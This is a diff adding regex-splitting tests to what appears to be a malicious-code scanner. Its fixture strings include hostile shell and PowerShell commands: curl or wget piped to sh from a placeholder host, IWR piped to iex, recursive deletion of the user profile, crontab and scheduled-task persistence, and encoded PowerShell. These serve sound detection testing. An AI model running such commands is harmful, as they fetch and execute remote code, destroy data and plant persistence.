@@ -81,6 +81,52 @@ def test_every_branch_match_holds_one_of_its_literals() -> None:
     assert checked > 50
 
 
+@pytest.mark.parametrize(
+    ("branch", "split"),
+    [
+        (r"(?:curl|wget)\b\s+x", [r"curl\b\s+x", r"wget\b\s+x"]),
+        (r"(?:ab|a)bc", [r"abbc", r"abc"]),  # the group's order is kept
+        (r"(?:Invoke-Expression|iex)", [r"Invoke-Expression", r"iex"]),
+        (r"(?:a|b)?c", [r"(?:a|b)?c"]),  # a repeated group: kept whole
+        (r"(?:a|b\s)c", [r"(?:a|b\s)c"]),  # an alternative that is not a literal
+        (r"(?P<x>a|b)c", [r"(?P<x>a|b)c"]),  # a capturing group
+        (r"x(?:a|b)", [r"x(?:a|b)"]),
+    ],
+)
+def test_literal_led_split(branch: str, split: list[str]) -> None:
+    assert views._literal_led(branch) == split
+
+
+_SPLIT_CASES = [
+    "fs.renameSync('package.md', 'package.json'); rename('package.md','package.json')",
+    "curl -s https://x.invalid/a | wget -qO- https://x.invalid/b | sh",
+    "IWR https://x.invalid | iex; Invoke-WebRequest https://x.invalid | IEX",
+    "del /s /q %USERPROFILE%\\x; DEL /F /S y; crontab -e; SCHTASKS /create /tn x",
+    "powershell -enc QUJDREVGR0hJSktMTU5PUA==; x",
+    "PowerShell.exe -EncodedCommand QUJDREVGR0hJSktMTU5PUA==",
+]
+
+
+def test_split_branches_find_the_same_first_match() -> None:
+    """A regex searched branch by branch, its leading literal groups split (``_literal_led``),
+    finds the match ``re`` finds for the whole regex, over every fixture and tricky strings."""
+    texts = _fixture_texts() + _SPLIT_CASES
+    split = [r for r in views._REGISTERED if id(r) in views._SEARCH_BRANCHES]
+    assert len(split) >= 3
+    checked = 0
+    for text in texts:
+        view = build_view(text)
+        for rx in split:
+            for hay in (view.text, view.decoded):
+                if not view.may(rx):
+                    continue
+                got = view._search(rx, hay)
+                want = rx.search(hay)
+                assert (got and (got.span(), got[0])) == (want and (want.span(), want[0])), rx
+                checked += want is not None
+    assert checked > 12
+
+
 # A minified-bundle shape dense in what the patterns look for (module names, sinks, decodable
 # literals, concatenations, credential paths, a host name), written here, not copied.
 _BUNDLE_CHUNK = (
